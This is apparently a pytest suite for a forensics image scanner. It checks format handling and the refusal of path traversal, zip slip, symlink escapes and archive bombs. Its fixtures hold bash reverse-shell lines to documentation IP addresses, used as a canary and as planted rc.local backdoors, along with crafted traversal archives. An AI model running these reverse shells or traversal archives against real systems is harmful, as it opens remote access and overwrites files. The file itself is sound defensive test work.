"""Image access: every input format yields the same entries, and hostile inputs stay harmless."""

from __future__ import annotations

import gzip
import io
import os
import stat
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest

from cranewatch.cli import main
from cranewatch.errors import EnvironmentProblem, ImageError
from cranewatch.forensics import Limits, open_image, scan_image
from cranewatch.forensics.image import detect_format
from forensics_helpers import make_cpio, make_ext4, make_squashfs, make_tar, make_zip

CANARY = "bash -i >& /dev/tcp/192.0.2.66/4444 0>&1  # CANARY outside the image\n"


def _tree(root: Path) -> Path:
    (root / "etc/cron.d").mkdir(parents=True)
    (root / "usr/bin").mkdir(parents=True)
    (root / "dev").mkdir()
    (root / "etc/hostname").write_text("cms-pc\n")
    (root / "etc/cron.d/job").write_text("* * * * * root /usr/bin/true\n")
    (root / "usr/bin/tool").write_bytes(b"\x7fELF" + b"\x00" * 60 + b"payload")
    os.chmod(root / "usr/bin/tool", 0o4755)
    (root / "bin").symlink_to("usr/bin")
    (root / "dev/fd").symlink_to("/proc/self/fd")
    (root / "etc/loop-a").symlink_to("loop-b")
    (root / "etc/loop-b").symlink_to("loop-a")
    (root / "etc/empty").write_bytes(b"")
    return root


FORMATS = {
    "tar.gz": lambda t, o: make_tar(t, o / "img.tar.gz", "gzip"),
    "tar.xz": lambda t, o: make_tar(t, o / "img.tar.xz", "xz"),
    "tar.bz2": lambda t, o: make_tar(t, o / "img.tar.bz2", "bzip2"),
    "tar.zst": lambda t, o: make_tar(t, o / "img.tar.zst", "zstd"),
    "zip": lambda t, o: make_zip(t, o / "img.zip"),
    "cpio": lambda t, o: make_cpio(t, o / "img.cpio"),
    "squashfs": lambda t, o: make_squashfs(t, o / "img.sqfs"),
    "ext4": lambda t, o: make_ext4(t, o / "img.ext4"),
}


def _summary(path: Path) -> dict[str, tuple[str, int, str | None, bytes | None]]:
    with open_image(path) as image:
        out = {}
        for e in image.entries.values():
            content = None
            if e.type == "file":
                with image.open(e.path) as fh:
                    content = fh.read()
            out[e.path] = (e.type, e.mode, e.link, content)
        return out


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_every_format_yields_the_tree_as_on_disk(tmp_path: Path, fmt: str) -> None:
    tree = _tree(tmp_path / "tree")
    image = FORMATS[fmt](tree, tmp_path)
    expected = _summary(tree)
    got = _summary(image)
    got.pop("lost+found", None)  # mke2fs adds it
    assert got == expected
    assert got["usr/bin/tool"][1] & stat.S_ISUID  # setuid bit survives every format
    assert got["dev/fd"] == ("symlink", got["dev/fd"][1], "/proc/self/fd", None)


def test_formats_are_detected_by_content_not_name(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    disguised = make_tar(tree, tmp_path / "firmware.bin", "xz")
    assert detect_format(disguised) == ("tar", "xz")
    assert detect_format(make_squashfs(tree, tmp_path / "x.img"))[0] == "squashfs"


def test_symlinks_resolve_inside_the_image_root(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    with open_image(tree) as image:
        assert image.resolve("bin/tool") == "usr/bin/tool"
        assert image.resolve("dev/fd/0") is None  # /proc is not in the image: never the host's
        assert image.resolve("etc/loop-a") is None  # a loop ends, it does not hang
        assert image.resolve("../../../etc/hostname") == "etc/hostname"  # .. stops at the root
        assert image.canonical("/bin/tool") == "usr/bin/tool"


def test_absolute_symlink_to_a_host_file_is_never_read(tmp_path: Path) -> None:
    canary = tmp_path / "canary.sh"
    canary.write_text(CANARY)
    tree = _tree(tmp_path / "tree")
    (tree / "etc/cron.d/evil").symlink_to(canary)  # absolute, out of the tree
    (tree / "etc/cron.d/up").symlink_to("../../../canary.sh")  # relative, climbing out
    result = scan_image(tree, workers=1)
    text = repr([f.to_json() for f in result.findings])
    assert "CANARY" not in text and "192.0.2.66" not in text
    with open_image(tree) as image, pytest.raises(ImageError):
        image.open("etc/cron.d/evil")


def _tar_with(members: list[tuple[tarfile.TarInfo, bytes | None]], out: Path) -> Path:
    with tarfile.open(out, "w:gz") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return out


def _member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = "") -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    info.linkname = link
    info.mode = 0o644
    return info, data if kind == tarfile.REGTYPE else None


def test_path_traversal_members_are_refused_and_nothing_is_written_outside(tmp_path: Path) -> None:
    victim_dir = tmp_path / "victim"
    victim_dir.mkdir()
    archive = _tar_with(
        [
            _member("etc/hostname", b"cms\n"),
            _member("../../victim/owned", CANARY.encode()),
            _member(f"{victim_dir}/abs-owned", CANARY.encode()),
            _member("etc/link", kind=tarfile.SYMTYPE, link=str(victim_dir)),
            _member("etc/link/through-link", CANARY.encode()),  # a write through a symlink
            _member("etc/hard", kind=tarfile.LNKTYPE, link="../../etc/passwd"),
        ],
        tmp_path / "evil.tar.gz",
    )
    with open_image(archive) as image:
        assert set(image.entries) == {"etc", "etc/hostname", "etc/link"}
        problems = " ".join(image.problems)  # content that was not scanned: the scan is incomplete
        warnings = " ".join(image.warnings)
    assert "path traversal" in problems and "../../victim/owned" in problems
    assert "below the non-directory etc/link" in problems
    assert "etc/hard: hard link to missing or unsafe '../../etc/passwd' skipped" in warnings
    assert list(victim_dir.iterdir()) == []
    assert not (tmp_path.parent / "victim" / "owned").exists()


def test_zip_bomb_is_refused_with_a_clear_message(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    block = b"\x00" * (1 << 20)
    with (
        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros", "w", force_zip64=True) as fh,
    ):
        for _ in range(300):
            fh.write(block)
    assert bomb.stat().st_size < 1 << 20
    with open_image(bomb) as image:  # refused by the declared size, before decompressing
        assert image.entries == {}
        assert len(image.problems) == 1 and "archive bomb" in image.problems[0] and "(zeros)" in image.problems[0]


def test_tar_bomb_stops_the_unpacking_and_what_came_before_is_kept(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.tar.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        script = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
        first = tarfile.TarInfo("etc/rc.local")
        first.size = len(script)
        tar.addfile(first, io.BytesIO(script))
        info = tarfile.TarInfo("zeros")
        info.size = 200 << 20
        tar.addfile(info, io.BytesIO(b"\x00" * info.size))
    for limits, reason in ((Limits(ratio_floor=16 << 20), "archive bomb"), (Limits(max_total_bytes=8 << 20), "size limit")):
        with open_image(bomb, limits) as image:
            assert set(image.entries) == {"etc", "etc/rc.local"}
            assert len(image.problems) == 1
            assert reason in image.problems[0] and "at member 3 (zeros)" in image.problems[0]
    result = scan_image(bomb, limits=Limits(ratio_floor=16 << 20), workers=1)
    assert not result.complete and "archive bomb" in result.problems[0]
    assert any(f.evidence[0].path == "etc/rc.local" and f.category == "backdoor" for f in result.findings)


def test_fifo_and_devices_are_skipped_with_a_note(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    os.mkfifo(tree / "dev/initctl")
    result = scan_image(tree, workers=1)  # would hang forever if the FIFO were opened
    assert any("FIFO" in w and "dev/initctl" in w for w in result.warnings)


@pytest.mark.parametrize("fmt", ["dir", *sorted(FORMATS)])
def test_file_count_limit_stops_with_a_problem(tmp_path: Path, fmt: str) -> None:
    tree = _tree(tmp_path / "tree")
    image = tree if fmt == "dir" else FORMATS[fmt](tree, tmp_path)
    with open_image(image, Limits(max_files=3)) as opened:
        assert 1 <= len(opened.entries) <= 3
        assert len(opened.problems) == 1 and "file-count limit" in opened.problems[0]


@pytest.mark.parametrize("content", [b"", b"this is not an image at all\n" * 10])
def test_empty_or_unknown_image_exits_3_with_a_message(tmp_path: Path, content: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    image = tmp_path / "image.bin"
    image.write_bytes(content)
    assert main(["scan-image", str(image)]) == 3
    err = capsys.readouterr().err
    assert "image.bin" in err
    assert ("empty (0 bytes)" in err) if not content else ("unknown image format" in err)


def test_truncated_archive_keeps_what_came_before_the_cut(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    for number in range(40):  # enough content that the decompressor delivers blocks before the cut
        (tree / f"etc/blob{number}").write_bytes(os.urandom(20_000))
    whole = make_tar(tree, tmp_path / "t.tar.gz").read_bytes()
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(whole[: len(whole) // 2])
    with open_image(cut) as image:  # what came before the cut is kept and scanned
        assert image.entries and set(image.entries) < set(_summary(tree))
        assert len(image.problems) == 1 and "corrupt or truncated tar archive" in image.problems[0]
    cut.write_bytes(whole[:100])  # nothing readable at all: an error, as before
    with pytest.raises(ImageError, match="corrupt gz stream"):
        open_image(cut)


def test_unpacked_copy_is_removed_on_close(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    image = open_image(make_tar(tree, tmp_path / "t.tar.gz"))
    root = image.root
    assert (root / "etc/hostname").is_file()
    image.close()
    assert not root.exists()


@pytest.mark.parametrize("fmt", ["ext4", "squashfs"])
def test_sparse_file_bomb_is_refused_before_unpacking(tmp_path: Path, fmt: str) -> None:
    tree = _tree(tmp_path / "tree")
    with open(tree / "var-log-huge", "wb") as fh:
        fh.truncate(512 << 20)  # 512 MiB of holes: a few KB in the image
    image = FORMATS[fmt](tree, tmp_path)
    assert image.stat().st_size < 64 << 20
    with open_image(image) as opened:  # refused from the listing: nothing of it is written
        assert "var-log-huge" not in opened.entries
        assert len(opened.problems) == 1 and "archive bomb" in opened.problems[0]
        written = sum(p.stat().st_size for p in opened.root.rglob("*") if p.is_file() and not p.is_symlink())
        assert written < 1 << 20


def test_zip_slip_and_absolute_zip_members_are_refused(tmp_path: Path) -> None:
    victim_dir = tmp_path / "victim"
    victim_dir.mkdir()
    archive = tmp_path / "slip.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("etc/hostname", "cms\n")
        z.writestr("../../victim/owned", CANARY)
        z.writestr(f"{victim_dir}/abs", CANARY)
        z.writestr("..\\..\\victim\\win", CANARY)
    with open_image(archive) as image:
        assert set(image.entries) == {"etc", "etc/hostname"}
        assert "refused 3 member(s)" in " ".join(image.problems)
    assert list(victim_dir.iterdir()) == []


def test_unreadable_file_is_a_warning_not_a_crash(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    with open_image(tree) as image:
        (tree / "etc/hostname").unlink()  # gone between listing and reading
        from cranewatch.forensics.checks.base import EndpointPolicy
        from cranewatch.forensics.packages import read_packages
        from cranewatch.forensics.scanner import file_pass, make_context

        ctx = make_context(image, read_packages(image), None, EndpointPolicy())
        result = file_pass(image, ctx, workers=1, want_digest=False)
    assert result.problems == ("etc/hostname: cannot be read (No such file or directory): not scanned",)


def test_full_unpack_disk_is_an_environment_problem(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tree = _tree(tmp_path / "tree")
    archive = make_tar(tree, tmp_path / "t.tar.gz")
    real_open = os.open

    def full_disk(path: object, flags: int, *args: object, **kwargs: object) -> int:
        if flags & os.O_CREAT:
            raise OSError(28, "No space left on device")
        return real_open(path, flags, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", full_disk)
    with pytest.raises(EnvironmentProblem, match="set TMPDIR"):
        open_image(archive)


# --- wrapped root filesystems (issue 14: "wrapped tarballs lose the root") ------------------------


def _wrapped_tar(tree: Path, out: Path, top: str) -> Path:
    """What ``tar czf out top/`` gives for a tree whose folder is called ``top``."""
    subprocess.run(["tar", "-C", str(tree), "--numeric-owner", "--transform", f"s,^\\.,{top},", "-czf", str(out), "."],
                   check=True)
    return out


def _debian_like(root: Path) -> Path:
    tree = _tree(root)
    (tree / "var/lib/dpkg/info").mkdir(parents=True)
    (tree / "var/lib/dpkg/status").write_text("Package: debianutils\nStatus: install ok installed\nVersion: 5.7\n\n")
    (tree / "var/lib/dpkg/info/debianutils.list").write_text("/usr/bin/tool\n")
    (tree / "etc/rc.local").write_text("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
    return tree


@pytest.mark.parametrize("top", ["rootfs", "./build/rootfs", "cms-backup-2026/rootfs"])
def test_wrapped_root_is_found_and_scanned_like_the_unwrapped_one(tmp_path: Path, top: str) -> None:
    tree = _debian_like(tmp_path / "tree")
    wrapped = _wrapped_tar(tree, tmp_path / "wrapped.tar.gz", top)
    plain = make_tar(tree, tmp_path / "plain.tar.gz")
    assert _summary(wrapped) == _summary(plain)
    with open_image(wrapped) as image:
        assert image.resolve("bin/tool") == "usr/bin/tool"  # links resolve against the found root
        assert any("the root filesystem is the folder" in w for w in image.warnings)
    a, b = scan_image(wrapped, workers=1), scan_image(plain, workers=1)
    assert [f.to_json() for f in a.findings] == [f.to_json() for f in b.findings]
    assert a.inventory.packages == b.inventory.packages and a.inventory.packages


def test_wrapped_root_in_a_directory_and_what_lies_beside_it(tmp_path: Path) -> None:
    backup = tmp_path / "backup"
    _debian_like(backup / "rootfs")
    (backup / "manifest.txt").write_text("made by the vendor\n")
    with open_image(backup) as image:
        assert "usr/bin/tool" in image.entries and "manifest.txt" not in image.entries
        assert any("1 entries beside it are not part of it" in w and "manifest.txt" in w for w in image.warnings)


def test_a_root_is_not_moved_into_a_chroot_it_holds(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    _debian_like(tree / "srv/chroot/old")
    with open_image(tree) as image:  # the top has etc/ and usr/: it is the root
        assert "srv/chroot/old/etc/rc.local" in image.entries and "etc/hostname" in image.entries
